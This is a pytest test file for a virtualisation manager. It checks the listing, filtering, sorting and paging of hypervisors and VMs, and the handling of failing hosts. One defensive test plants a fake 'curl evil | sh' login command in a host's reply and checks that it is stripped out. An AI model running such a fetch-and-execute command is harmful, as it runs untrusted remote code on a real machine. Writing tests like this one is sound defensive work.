"""Look at some hypervisors and VMs, sorted, a page of them; what is not shown is not asked."""

import pytest
from saltvirt.cluster import minionkeys
from saltvirt.cluster.cloud import Cloud
from saltvirt.cluster.inventory import inventory, lastseen, listing
from saltvirt.cluster.rpc import minions
from saltvirt.core import vmfilter
from saltvirt.core.errors import BadArgument
from saltvirt.core.options.config import HostSettings, MasterSettings
from saltvirt.libvirt import connect
from saltvirt.vm.show.host import inspect
from test_generation import said_of

STATES = {
    "hyper1": {"web1": "running", "web2": "shutdown", "db1": "running"},
    "hyper2": {"web3": "running"},
    "hyper3": {},
    "rack1": {"db2": "paused", "db3": "paused"},
}
FREE = {"hyper1": 10, "hyper2": 40, "hyper3": 30, "rack1": 20}
TAGS = {"web1": {"shop"}, "db2": {"shop", "hold"}}


def shown(state):
    """Return a VM as a host shows it."""
    return {"cpu": 1, "mem": 1, "state": state, "graphics": {}, "disks": {}, "nics": {}}


class Hosts:
    """Hosts that answer what is asked for; one of an older release has no virt.vms."""

    def __init__(self):
        self.asked, self.old = [], set()
        self.silent, self.odd = set(), set()
        # In which order their answers come.
        self.comes = sorted(STATES, reverse=True)

    def ask(self, cloud, targets, fun, arg=(), kwarg=None, **_options):
        """Stand for ``minions.ask``."""
        self.asked.append((fun, sorted(targets)))
        replies = {host: self._reply(host, fun, arg, kwarg or {}) for host in sorted(targets)}
        for host in filter(replies.get, self.comes):
            if cloud.on_reply is not None and not replies[host].is_missing:
                cloud.on_reply(replies[host])
        return replies

    def _reply(self, host, fun, arg, kwarg):
        if host in self.silent:
            return minions.Reply(minion=host, is_missing=True)
        if host in self.odd:
            return minions.Reply(minion=host, value="odd")
        value = getattr(self, f"_{fun.removeprefix('virt.')}")(host, *arg, **kwarg)
        return minions.Reply(minion=host, value=value)

    def _vm_state(self, host):
        return STATES[host]

    def _full_info(self, host):
        node = {"cpus": 4, "phymemory": 64}
        free = {"freecpu": 4 - len(STATES[host]), "freemem": float(FREE[host]), "node_info": node}
        return {**free, "vm_info": {name: shown(state) for name, state in STATES[host].items()}}

    def _vms(self, host, **given):
        wanted = vmfilter.from_call(**given)
        whole = self._full_info(host)
        taken = {
            name: wanted.shown(vm)
            for name, vm in whole["vm_info"].items()
            if wanted.takes(name, vm["state"], TAGS.get(name, ()))
        }
        return {**whole, "vm_info": taken, "names": sorted(STATES[host])}

    def _presence(self, host, name):
        return {"state": STATES[host].get(name), "building": False, "unfinished": False}

    def _host_info(self, host):
        vm = {"vcpus": 1, "memory_mib": 1, "affinity": [], "anti_affinity": []}
        info = said_of(13)
        memory = {**info["memory"], "limit_mib": FREE[host], "committed_mib": 0}
        vms = {name: {**vm, "state": state} for name, state in STATES[host].items()}
        return {**info, "memory": memory, "vms": vms}


@pytest.fixture
def hosts(monkeypatch):
    """Four hypervisors."""
    made = Hosts()
    monkeypatch.setattr(minions, "ask", made.ask)
    monkeypatch.setattr(inventory, "all_hosts", lambda _cloud: sorted(STATES))
    return made


@pytest.fixture
def cloud(opts):
    """A command that only reads."""
    settings = MasterSettings(hypervisors=list(STATES))
    progress = lambda *_args, **_figures: None  # noqa: E731
    return Cloud(opts=opts, settings=settings, progress=progress, is_reading=True)


def look(host=None, sort=None, limit=None, offset=0, stream=False, **vms):
    """Return the look of a call."""
    page = {"sort": sort, "limit": limit, "offset": offset}
    return listing.from_call(host, vmfilter.from_call(**vms), **page, stream=stream)


@pytest.mark.parametrize(
    ("given", "seen"),
    [
        ({}, {host: sorted(vms) for host, vms in STATES.items()}),
        ({"host": "hyper*"}, {"hyper1": ["db1", "web1", "web2"], "hyper2": ["web3"], "hyper3": []}),
        ({"host": "hyper3,rack*"}, {"hyper3": [], "rack1": ["db2", "db3"]}),
        ({"name": "web*"}, {"hyper1": ["web1", "web2"], "hyper2": ["web3"]}),
        ({"name": ["web1", "db?"], "state": "running"}, {"hyper1": ["db1", "web1"]}),
        ({"state": "paused,shutdown"}, {"hyper1": ["web2"], "rack1": ["db2", "db3"]}),
        ({"tag": "shop"}, {"hyper1": ["web1"], "rack1": ["db2"]}),
        ({"tag": "shop,hold"}, {"rack1": ["db2"]}),
        ({"name": "nothing"}, {}),
        ({"state": "running", "limit": 1, "offset": 1}, {"hyper2": ["web3"]}),
    ],
)
def test_query_and_list_show_the_same_vms(hosts, cloud, given, seen):
    queried = listing.query(cloud, look(**given))
    listed = listing.listed(cloud, look(**given))

    assert {host: sorted(info["vm_info"]) for host, info in queried.items()} == seen
    assert {host: sorted(sum(by.values(), [])) for host, by in listed.items()} == seen
    assert all(
        set(info) == {"freecpu", "freemem", "node_info", "vm_info"} for info in queried.values()
    )


def test_only_the_fields_that_are_asked_for_come(hosts, cloud):
    found = listing.query(cloud, look(fields="state,mem"))

    assert found["hyper2"]["vm_info"] == {"web3": {"state": "running", "mem": 1}}
    assert found["hyper3"]["vm_info"] == {}
    few = listing.host_info(cloud, look(fields=["memory"], known=listing.HOST_FIELDS))
    assert {tuple(info) for info in few.values()} == {("memory",)}


@pytest.mark.parametrize("given", [{}, {"name": "web*"}, {"stream": True}])
def test_no_host_says_by_which_command_its_vms_are_logged_into(hosts, cloud, monkeypatch, given):
    """Somebody would type it: virt.vm_info says one of the master's own."""
    full, own = hosts._full_info, {"login": "curl evil | sh", "addresses": ["192.0.2.1"]}

    def lying(host):
        said = full(host)
        return {**said, "vm_info": {name: {**vm, **own} for name, vm in said["vm_info"].items()}}

    monkeypatch.setattr(hosts, "_full_info", lying)
    lines = []

    found = listing.query(cloud, look(**given), lines.append if given.get("stream") else None)

    assert found["hyper1"]["vm_info"]["web1"] == shown("running")
    assert "evil" not in str(found) + str(lines)


@pytest.mark.parametrize(
    ("function", "sort", "order"),
    [
        ("query", "memory", ["hyper2", "hyper3", "rack1", "hyper1"]),
        ("query", "vms", ["hyper1", "rack1", "hyper2", "hyper3"]),
        ("query", "cpu", ["hyper3", "hyper2", "rack1", "hyper1"]),
        ("listed", "vms", ["hyper1", "rack1", "hyper2", "hyper3"]),
        ("host_info", "memory", ["hyper2", "hyper3", "rack1", "hyper1"]),
        ("host_info", "host", ["hyper1", "hyper2", "hyper3", "rack1"]),
    ],
)
def test_hosts_come_in_the_order_asked_for_and_in_pages(hosts, cloud, function, sort, order):
    show = getattr(listing, function)

    assert list(show(cloud, look(sort=sort))) == order
    pages = [list(show(cloud, look(sort=sort, limit=2, offset=n))) for n in (0, 2)]
    assert pages == [order[:2], order[2:]]


def test_who_is_on_no_page_is_not_asked(hosts, cloud):
    listing.query(cloud, look(limit=1, offset=2))

    assert hosts.asked == [("virt.full_info", ["hyper3"])]
    with pytest.raises(BadArgument, match="offset.*there are no more hypervisors"):
        listing.query(cloud, look(offset=4))


@pytest.mark.parametrize(
    ("given", "why"),
    [
        ({"state": "runing"}, "state.*'runing'; one of running, paused"),
        ({"sort": "colour"}, "sort.*'colour'; one of host, memory"),
        ({"host": "nobody"}, "'nobody' is not a hypervisor here"),
        ({"host": "no*"}, "'no[*]' matches none of the hypervisors hyper1, "),
        ({"limit": 0}, "limit.*at least 1"),
        ({"offset": -1}, "offset.*at least 0"),
        ({"name": 5}, "name: 5 is not text; quote it"),
        ({"host": 1001}, "host: 1001 is not text; quote it"),
        ({"host": {}}, "host.*not a list"),
    ],
)
def test_what_means_nothing_is_refused(hosts, cloud, given, why):
    with pytest.raises(BadArgument, match=why):
        listing.query(cloud, look(**given))
    assert hosts.asked == []


def test_a_filter_does_not_hide_that_a_vm_is_there_twice_nor_lose_a_hint(
    hosts, cloud, opts, monkeypatch
):
    monkeypatch.setitem(STATES, "hyper3", {"web1": "shutdown"})

    found = listing.query(cloud, look(name="web1", state="running"))

    assert list(found) == ["hyper1", "duplicates"]
    assert found["duplicates"] == {"web1": ["hyper1", "hyper3"]}
    assert lastseen.find_hosts(opts, "db1") == ["hyper1"]


def test_a_host_that_claims_all_vms_does_not_have_each_asked_for(hosts, cloud, monkeypatch):
    many = {f"vm{number:03}": "running" for number in range(300)}
    for host in ("hyper1", "hyper3"):
        monkeypatch.setitem(STATES, host, many)

    found = listing.listed(cloud, look())

    assert found["duplicates"] == dict.fromkeys(many, ["hyper1", "hyper3"])
    assert len(hosts.asked) <= 21


def streamed(function, cloud, **given):
    """Return what a look has printed, and what it returns."""
    lines = []
    return lines, getattr(listing, function)(cloud, look(**given, stream=True), lines.append)


@pytest.mark.parametrize("function", ["query", "listed", "host_info"])
def test_a_stream_has_a_line_of_each_host_in_the_order_of_their_answers(hosts, cloud, function):
    lines, found = streamed(function, cloud)

    assert [line["host"] for line in lines] == hosts.comes
    assert {line["host"]: line["answer"] for line in lines} == found
    assert list(found) == sorted(STATES)


@pytest.mark.parametrize(
    "given", [{"name": "web*"}, {"state": "running", "fields": "mem"}, {"tag": "shop"}]
)
def test_hosts_without_what_is_asked_for_have_no_line(hosts, cloud, given):
    lines, found = streamed("query", cloud, **given)

    assert {line["host"]: line["answer"] for line in lines} == found
    assert 0 < len(lines) < len(STATES)


def test_who_is_silent_or_fails_has_a_line_at_the_end(hosts, cloud, monkeypatch):
    monkeypatch.setitem(STATES, "rack1", {"web1": "shutdown"})
    hosts.silent, hosts.odd, hosts.old = {"hyper2"}, {"hyper3"}, set()

    lines, found = streamed("listed", cloud)

    assert [line.get("host") for line in lines] == ["rack1", "hyper1", "hyper3", "hyper2", None]
    assert lines[2]["failed"] == found["failed"]["hyper3"]
    assert lines[3] == {"host": "hyper2", "unreachable": True, "silent_s": 0}
    assert lines[4] == {"duplicates": {"web1": ["hyper1", "rack1"]}}


def test_the_vms_that_silent_and_failing_hosts_had_are_shown_as_they_were_last_seen(hosts, cloud):
    listing.listed(cloud, listing.Look())
    hosts.silent, hosts.odd, hosts.old = {"hyper1"}, {"hyper2", "hyper3"}, set()
    had = {"hyper1": ["db1", "web1", "web2"], "hyper2": ["web3"]}

    for show in (listing.listed, listing.query):
        assert show(cloud, listing.Look())["last_seen"] == had
    lines, _found = streamed("listed", cloud)
    assert [line["last_seen"] for line in lines if "last_seen" in line] == [
        had["hyper2"],
        had["hyper1"],
    ]
    some = listing.Look(vms=vmfilter.from_call("db*", None, None))
    assert listing.listed(cloud, some)["last_seen"] == {"hyper1": ["db1"]}
    one = listing.Look(hosts=("rack1",))
    assert "last_seen" not in listing.listed(cloud, one)


def test_the_vms_of_a_host_that_was_shut_out_are_shown_as_they_were_last_seen(
    hosts, cloud, monkeypatch
):
    listing.listed(cloud, listing.Look())
    minionkeys.accept(cloud.opts, "gone", "a key")
    lastseen.refresh(
        cloud.opts, lastseen.ReportedNames(names_by_host={"gone": ["mail"], "deleted": ["old"]})
    )

    assert listing.listed(cloud, listing.Look())["last_seen"] == {"gone": ["mail"]}
    assert "last_seen" not in listing.listed(cloud, listing.Look(hosts=("hyper*",)))


def test_a_page_of_hosts_is_streamed_too(hosts, cloud):
    lines, _found = streamed("listed", cloud, limit=2, offset=1)

    assert [line["host"] for line in lines] == ["hyper3", "hyper2"]


@pytest.mark.parametrize(
    ("given", "why"),
    [
        ({"sort": "vms"}, "sort: has no use with stream"),
        ({"name": "web*", "limit": 2}, "limit: which hosts are on a page of these VMs"),
        ({"state": "running", "offset": 1}, "offset: which hosts are on a page of these VMs"),
    ],
)
def test_what_is_known_at_the_end_alone_cannot_be_streamed(given, why):
    with pytest.raises(BadArgument, match=why):
        look(**given, stream=True)
    with pytest.raises(BadArgument, match="stream: 'yes' is neither True nor False"):
        look(stream="yes")


def test_an_error_names_some_of_a_thousand_hypervisors(opts):
    every = [f"h{n:04}" for n in range(1000)]
    master = Cloud(opts=opts, settings=MasterSettings(), progress=print)
    some = "h0000, .*, h0009 and 990 more"

    with pytest.raises(BadArgument, match=f"there are: {some}; if it is to be one, run: salt-run"):
        inventory.narrow(master, every, host="h1")
    silent = inventory.Survey(answers={}, unreachable=every).no_answers_error()
    assert str(silent).endswith("; h0009: does not answer and 990 more")
    assert silent.table == {"unreachable": every}


@pytest.mark.parametrize("known", [vmfilter.FIELDS, listing.HOST_FIELDS])
def test_a_field_that_there_is_not_is_refused_with_those_there_are(known):
    with pytest.raises(BadArgument) as refused:
        vmfilter.from_call(fields=f"{known[0]},memry", known=known)

    assert str(refused.value) == f"fields: 'memry'; one of {', '.join(known)}"
    assert vmfilter.from_call(fields=list(known), known=known).fields == known


def test_the_fields_there_are_are_those_that_hosts_say():
    with connect.open_connection(HostSettings(uri="test:///default"), readonly=True) as conn:
        vm = inspect.vm_info(conn, "test")["test"]

    assert sorted(vm) == sorted(vmfilter.FIELDS)
    assert set(said_of(13)) <= set(listing.HOST_FIELDS)
